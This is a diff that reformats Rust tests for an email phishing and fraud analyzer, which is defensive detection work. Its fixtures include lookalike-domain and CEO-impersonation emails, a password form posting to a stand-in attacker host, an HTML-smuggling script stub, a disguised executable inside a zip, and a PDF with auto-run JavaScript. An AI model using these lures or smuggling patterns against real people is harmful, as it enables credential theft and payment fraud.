@@ -18,9 +18,16 @@ fn identity_brand_in_name_on_a_stranger_address() {
     );
     let v = analyzer().analyze(m.as_bytes()).unwrap();
     assert!(has(&v, "identity.brand_name_mismatch"), "{:?}", ids(&v));
-    assert_eq!(detail(&v, "identity.brand_name_mismatch"), "the name says Microsoft (\"microsoft\") but the address is at usual-assist.com");
+    assert_eq!(
+        detail(&v, "identity.brand_name_mismatch"),
+        "the name says Microsoft (\"microsoft\") but the address is at usual-assist.com"
+    );
     assert!(v.is_flagged());
-    assert!(v.categories.contains(&"credential_phishing".to_string()), "{:?}", v.categories);
+    assert!(
+        v.categories.contains(&"credential_phishing".to_string()),
+        "{:?}",
+        v.categories
+    );
 }
 
 #[test]
@@ -43,14 +50,33 @@ fn identity_lookalike_domains_and_reply_to_tricks() {
         ..AnalyzerConfig::default()
     };
     let a = Analyzer::new(cfg).unwrap();
-    let m = message("From: IT <it@c0ntoso.com>\nTo: bob@contoso.com\nSubject: hello", "text/plain", "See you tomorrow.", &[]);
+    let m = message(
+        "From: IT <it@c0ntoso.com>\nTo: bob@contoso.com\nSubject: hello",
+        "text/plain",
+        "See you tomorrow.",
+        &[],
+    );
     let v = a.analyze(m.as_bytes()).unwrap();
     assert!(has(&v, "identity.lookalike_tenant_domain"), "{:?}", ids(&v));
     // Cyrillic "а" in the domain: same confusable skeleton.
-    let m = message("From: AR <ar@f\u{0430}brikam.com>\nTo: bob@contoso.com\nSubject: hello", "text/plain", "Statement attached soon.", &[]);
+    let m = message(
+        "From: AR <ar@f\u{0430}brikam.com>\nTo: bob@contoso.com\nSubject: hello",
+        "text/plain",
+        "Statement attached soon.",
+        &[],
+    );
     let v = a.analyze(m.as_bytes()).unwrap();
-    assert!(has(&v, "identity.lookalike_partner_domain") || has(&v, "identity.punycode_domain"), "{:?}", ids(&v));
-    let m = message("From: Billing <billing@fabrikam.com>\nReply-To: fabrikam.billing@gmail.com\nTo: bob@contoso.com\nSubject: hi", "text/plain", "Please reply.", &[]);
+    assert!(
+        has(&v, "identity.lookalike_partner_domain") || has(&v, "identity.punycode_domain"),
+        "{:?}",
+        ids(&v)
+    );
+    let m = message(
+        "From: Billing <billing@fabrikam.com>\nReply-To: fabrikam.billing@gmail.com\nTo: bob@contoso.com\nSubject: hi",
+        "text/plain",
+        "Please reply.",
+        &[],
+    );
     let v = a.analyze(m.as_bytes()).unwrap();
     assert!(has(&v, "identity.reply_to_freemail"), "{:?}", ids(&v));
 }
@@ -65,7 +91,10 @@ fn bec_executive_impersonation_and_first_contact() {
     }
     let cfg = AnalyzerConfig {
         accepted_domains: vec!["contoso.com".into()],
-        vips: vec![Vip { name: "Jane Smith".into(), addresses: vec!["ceo@contoso.com".into()] }],
+        vips: vec![Vip {
+            name: "Jane Smith".into(),
+            addresses: vec!["ceo@contoso.com".into()],
+        }],
         known_senders: Some(std::sync::Arc::new(Known)),
         ..AnalyzerConfig::default()
     };
@@ -83,7 +112,12 @@ fn bec_executive_impersonation_and_first_contact() {
     assert_eq!(v.verdict, VerdictKind::Malicious, "{}", v.explain());
     assert!(v.categories.contains(&"bec".to_string()));
     // The real CEO writing from her own address is not impersonation.
-    let m = message("From: Jane Smith <ceo@contoso.com>\nTo: bob@contoso.com\nSubject: Board", "text/plain", "Board meeting moved to 3pm.", &[]);
+    let m = message(
+        "From: Jane Smith <ceo@contoso.com>\nTo: bob@contoso.com\nSubject: Board",
+        "text/plain",
+        "Board meeting moved to 3pm.",
+        &[],
+    );
     let v = a.analyze(m.as_bytes()).unwrap();
     assert!(!has(&v, "identity.vip_impersonation"));
     assert_eq!(v.verdict, VerdictKind::Clean);
@@ -91,7 +125,10 @@ fn bec_executive_impersonation_and_first_contact() {
 
 #[test]
 fn vendor_fraud_bank_detail_change() {
-    let cfg = AnalyzerConfig { partner_domains: vec!["fabrikam.com".into()], ..AnalyzerConfig::default() };
+    let cfg = AnalyzerConfig {
+        partner_domains: vec!["fabrikam.com".into()],
+        ..AnalyzerConfig::default()
+    };
     let a = Analyzer::new(cfg).unwrap();
     let m = message(
         "From: Fabrikam Accounts <accounts@fabrikarn.com>\nTo: ap@contoso.com\nSubject: Updated banking details",
@@ -103,7 +140,11 @@ fn vendor_fraud_bank_detail_change() {
     assert!(has(&v, "content.payment_change"), "{:?}", ids(&v));
     assert!(has(&v, "content.iban"));
     assert!(has(&v, "identity.lookalike_partner_domain"));
-    assert!(v.categories.contains(&"vendor_fraud".to_string()), "{:?}", v.categories);
+    assert!(
+        v.categories.contains(&"vendor_fraud".to_string()),
+        "{:?}",
+        v.categories
+    );
     assert_eq!(v.verdict, VerdictKind::Malicious);
 }
 
@@ -118,9 +159,18 @@ fn content_in_six_languages() {
         "Atualize seus dados, sua conta foi bloqueada.",
         "Bevestig uw account, uw account wordt verwijderd.",
     ] {
-        let m = message("From: Service <a@example.net>\nTo: b@contoso.com\nSubject: Notice", "text/plain", body, &[]);
+        let m = message(
+            "From: Service <a@example.net>\nTo: b@contoso.com\nSubject: Notice",
+            "text/plain",
+            body,
+            &[],
+        );
         let v = a.analyze(m.as_bytes()).unwrap();
-        assert!(has(&v, "content.credential_request") || has(&v, "content.credential_request_strong"), "{body}: {:?}", ids(&v));
+        assert!(
+            has(&v, "content.credential_request") || has(&v, "content.credential_request_strong"),
+            "{body}: {:?}",
+            ids(&v)
+        );
         assert!(has(&v, "content.account_threat"), "{body}: {:?}", ids(&v));
     }
 }
@@ -135,7 +185,11 @@ fn callback_phishing() {
     );
     let v = analyzer().analyze(m.as_bytes()).unwrap();
     assert!(has(&v, "content.callback_number"), "{:?}", ids(&v));
-    assert!(v.categories.contains(&"callback".to_string()), "{:?}", v.categories);
+    assert!(
+        v.categories.contains(&"callback".to_string()),
+        "{:?}",
+        v.categories
+    );
 }
 
 #[test]
@@ -146,12 +200,27 @@ fn html_tricks() {
       <div style="display:none">lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt ut labore et dolore magna aliqua ut enim ad minim veniam quis nostrud exercitation ullamco laboris nisi ut aliquip ex ea commodo consequat duis aute irure dolor in reprehenderit in voluptate velit esse cillum dolore eu fugiat nulla pariatur excepteur sint occaecat cupidatat non proident</div>
       <form action="http://evil.example/p"><input type="password" name="pw"></form>
       <p>pa&#8203;y&#8203;p&#8203;al se&#8203;cu&#8203;re</p></body></html>"#;
-    let m = message("From: Service <a@example.net>\nTo: b@contoso.com\nSubject: Notice", "text/html", html, &[]);
+    let m = message(
+        "From: Service <a@example.net>\nTo: b@contoso.com\nSubject: Notice",
+        "text/html",
+        html,
+        &[],
+    );
     let v = analyzer().analyze(m.as_bytes()).unwrap();
-    for id in ["html.link_text_mismatch", "html.password_form", "html.meta_refresh", "html.base_tag", "html.hidden_text", "content.invisible_characters"] {
+    for id in [
+        "html.link_text_mismatch",
+        "html.password_form",
+        "html.meta_refresh",
+        "html.base_tag",
+        "html.hidden_text",
+        "content.invisible_characters",
+    ] {
         assert!(has(&v, id), "{id} missing: {:?}", ids(&v));
     }
-    assert_eq!(detail(&v, "html.link_text_mismatch"), "a link shows www.paypal.com but leads to evil.example");
+    assert_eq!(
+        detail(&v, "html.link_text_mismatch"),
+        "a link shows www.paypal.com but leads to evil.example"
+    );
     assert_eq!(v.verdict, VerdictKind::Malicious);
 }
 
@@ -159,9 +228,19 @@ fn html_tricks() {
 fn links_ip_shortener_punycode_and_unwrapped_safelinks() {
     let body = "Open http://198.51.100.7/login and https://bit.ly/3abc and http://xn--pypal-4ve.com/ and \
                 https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fsecure-login.firebaseapp.com%2F&data=x";
-    let m = message("From: Service <a@example.net>\nTo: b@contoso.com\nSubject: Links", "text/plain", body, &[]);
+    let m = message(
+        "From: Service <a@example.net>\nTo: b@contoso.com\nSubject: Links",
+        "text/plain",
+        body,
+        &[],
+    );
     let v = analyzer().analyze(m.as_bytes()).unwrap();
-    for id in ["links.ip_literal", "links.shortener", "links.punycode", "links.free_hosting"] {
+    for id in [
+        "links.ip_literal",
+        "links.shortener",
+        "links.punycode",
+        "links.free_hosting",
+    ] {
         assert!(has(&v, id), "{id} missing: {:?}", ids(&v));
     }
     // Safe Links are unwrapped, not reported as a redirector.
@@ -174,7 +253,8 @@ fn zip_of(files: &[(&str, &[u8])]) -> Vec<u8> {
     {
         let mut z = zip::ZipWriter::new(&mut buf);
         for (name, data) in files {
-            z.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
+            z.start_file(*name, zip::write::SimpleFileOptions::default())
+                .unwrap();
             z.write_all(data).unwrap();
         }
         z.finish().unwrap();
@@ -185,22 +265,43 @@ fn zip_of(files: &[(&str, &[u8])]) -> Vec<u8> {
 #[test]
 fn attachments_macros_archives_executables_smuggling() {
     let a = analyzer();
-    let docm = zip_of(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w/>"), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]);
+    let docm = zip_of(&[
+        ("[Content_Types].xml", b"<Types/>"),
+        ("word/document.xml", b"<w/>"),
+        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
+    ]);
     let zip_exe = zip_of(&[("invoice.pdf.exe", b"MZ\x90\x00")]);
-    let html = format!("<html><script>var p=atob('{}');var b=new Blob([p]);saveAs(URL.createObjectURL(b));</script></html>", "QUJD".repeat(600));
+    let html = format!(
+        "<html><script>var p=atob('{}');var b=new Blob([p]);saveAs(URL.createObjectURL(b));</script></html>",
+        "QUJD".repeat(600)
+    );
     let m = message(
         "From: AP <ap@example.net>\nTo: b@contoso.com\nSubject: Documents",
         "text/plain",
         "Please see the attached documents.",
         &[
-            ("report.docm", "application/vnd.ms-word.document.macroEnabled.12", docm),
+            (
+                "report.docm",
+                "application/vnd.ms-word.document.macroEnabled.12",
+                docm,
+            ),
             ("invoice.zip", "application/zip", zip_exe),
             ("scan.html", "text/html", html.into_bytes()),
-            ("setup.lnk", "application/octet-stream", vec![0x4c, 0, 0, 0, 1, 0x14, 2, 0]),
+            (
+                "setup.lnk",
+                "application/octet-stream",
+                vec![0x4c, 0, 0, 0, 1, 0x14, 2, 0],
+            ),
         ],
     );
     let v = a.analyze(m.as_bytes()).unwrap();
-    for id in ["att.macro", "att.archive_executable", "att.html_smuggling", "att.shortcut", "att.html"] {
+    for id in [
+        "att.macro",
+        "att.archive_executable",
+        "att.html_smuggling",
+        "att.shortcut",
+        "att.html",
+    ] {
         assert!(has(&v, id), "{id} missing: {:?}", ids(&v));
     }
     assert_eq!(v.verdict, VerdictKind::Malicious);
@@ -211,7 +312,15 @@ fn attachments_macros_archives_executables_smuggling() {
 fn attachments_pdf_with_javascript_and_calendar_lure() {
     let pdf = b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF".to_vec();
     let ics = b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Payroll update\r\nDESCRIPTION:Confirm at https://payroll-update.web.app/login\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".to_vec();
-    let m = message("From: HR <hr@example.net>\nTo: b@contoso.com\nSubject: Docs", "text/plain", "Attached.", &[("a.pdf", "application/pdf", pdf), ("invite.ics", "text/calendar", ics)]);
+    let m = message(
+        "From: HR <hr@example.net>\nTo: b@contoso.com\nSubject: Docs",
+        "text/plain",
+        "Attached.",
+        &[
+            ("a.pdf", "application/pdf", pdf),
+            ("invite.ics", "text/calendar", ics),
+        ],
+    );
     let v = analyzer().analyze(m.as_bytes()).unwrap();
     assert!(has(&v, "att.pdf_javascript"), "{:?}", ids(&v));
     assert!(has(&v, "att.calendar_links"), "{:?}", ids(&v));
@@ -221,7 +330,10 @@ fn attachments_pdf_with_javascript_and_calendar_lure() {
 #[test]
 fn qr_code_in_an_image_is_decoded_and_judged_as_a_link() {
     let code = qrcode::QrCode::new(b"http://203.0.113.9/m365/login").unwrap();
-    let img = code.render::<image::Luma<u8>>().min_dimensions(200, 200).build();
+    let img = code
+        .render::<image::Luma<u8>>()
+        .min_dimensions(200, 200)
+        .build();
     let mut png = std::io::Cursor::new(Vec::new());
     img.write_to(&mut png, image::ImageFormat::Png).unwrap();
     let m = message(
@@ -233,7 +345,11 @@ fn qr_code_in_an_image_is_decoded_and_judged_as_a_link() {
     let v = analyzer().analyze(m.as_bytes()).unwrap();
     assert!(has(&v, "qr.code"), "{:?}", ids(&v));
     assert!(has(&v, "qr.link"), "{:?}", ids(&v));
-    assert!(detail(&v, "links.ip_literal").contains("in a QR code"), "{}", v.explain());
+    assert!(
+        detail(&v, "links.ip_literal").contains("in a QR code"),
+        "{}",
+        v.explain()
+    );
     assert!(v.categories.contains(&"credential_phishing".to_string()));
 }
 
@@ -254,18 +370,42 @@ fn user_rules_load_and_bad_ones_are_refused() {
         "- id: subject-wire\n  description: Subject mentions a wire\n  severity: critical\n  category: bec\n  when: \"subject.lowerAscii().contains('wire')\"\n",
     )
     .unwrap();
-    let a = Analyzer::new(AnalyzerConfig { rule_paths: vec![dir.path().to_path_buf()], ..AnalyzerConfig::default() }).unwrap();
-    let m = message("From: x@example.net\nTo: b@contoso.com\nSubject: WIRE today", "text/plain", "hi", &[]);
+    let a = Analyzer::new(AnalyzerConfig {
+        rule_paths: vec![dir.path().to_path_buf()],
+        ..AnalyzerConfig::default()
+    })
+    .unwrap();
+    let m = message(
+        "From: x@example.net\nTo: b@contoso.com\nSubject: WIRE today",
+        "text/plain",
+        "hi",
+        &[],
+    );
     let v = a.analyze(m.as_bytes()).unwrap();
     assert!(has(&v, "rule.subject-wire"), "{:?}", ids(&v));
     assert_eq!(v.verdict, VerdictKind::Malicious);
-    std::fs::write(dir.path().join("bad.yaml"), "- id: bad\n  description: d\n  severity: low\n  category: c\n  when: \"((\"\n").unwrap();
-    assert!(Analyzer::new(AnalyzerConfig { rule_paths: vec![dir.path().to_path_buf()], ..AnalyzerConfig::default() }).is_err());
+    std::fs::write(
+        dir.path().join("bad.yaml"),
+        "- id: bad\n  description: d\n  severity: low\n  category: c\n  when: \"((\"\n",
+    )
+    .unwrap();
+    assert!(
+        Analyzer::new(AnalyzerConfig {
+            rule_paths: vec![dir.path().to_path_buf()],
+            ..AnalyzerConfig::default()
+        })
+        .is_err()
+    );
 }
 
 #[test]
 fn plain_ham_is_clean_and_verdict_serializes() {
-    let m = message("From: Bob <bob@example.org>\nTo: alice@example.org\nSubject: Re: patch", "text/plain", "Thanks, the patch applies cleanly; merged into main.", &[]);
+    let m = message(
+        "From: Bob <bob@example.org>\nTo: alice@example.org\nSubject: Re: patch",
+        "text/plain",
+        "Thanks, the patch applies cleanly; merged into main.",
+        &[],
+    );
     let v = analyzer().analyze(m.as_bytes()).unwrap();
     assert_eq!(v.verdict, VerdictKind::Clean);
     let j = serde_json::to_value(&v).unwrap();
